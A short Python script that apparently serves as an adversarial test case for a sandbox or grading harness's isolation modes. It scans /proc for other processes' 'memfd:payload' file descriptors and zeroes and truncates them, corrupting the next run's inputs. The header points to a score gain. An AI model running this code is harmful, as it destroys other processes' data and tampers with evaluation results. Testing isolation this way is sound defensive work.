# /// attack
# title = "writes to the pages that the next one's inputs come from"
# score = 100
# then_right = true
# isolation = ["strict", "process"]
# ///
import glob
import mmap
import os
from contextlib import suppress


def spoil(path):
    file = os.open(path, os.O_RDWR)
    size = os.fstat(file).st_size
    with suppress(OSError):
        mmap.mmap(file, size)[:] = bytes(size)
    with suppress(OSError):
        os.pwrite(file, bytes(size), 0)
    with suppress(OSError):
        os.ftruncate(file, 0)


for path in glob.glob("/proc/[0-9]*/fd/*"):
    with suppress(OSError):
        if "memfd:payload" in os.readlink(path):
            spoil(path)
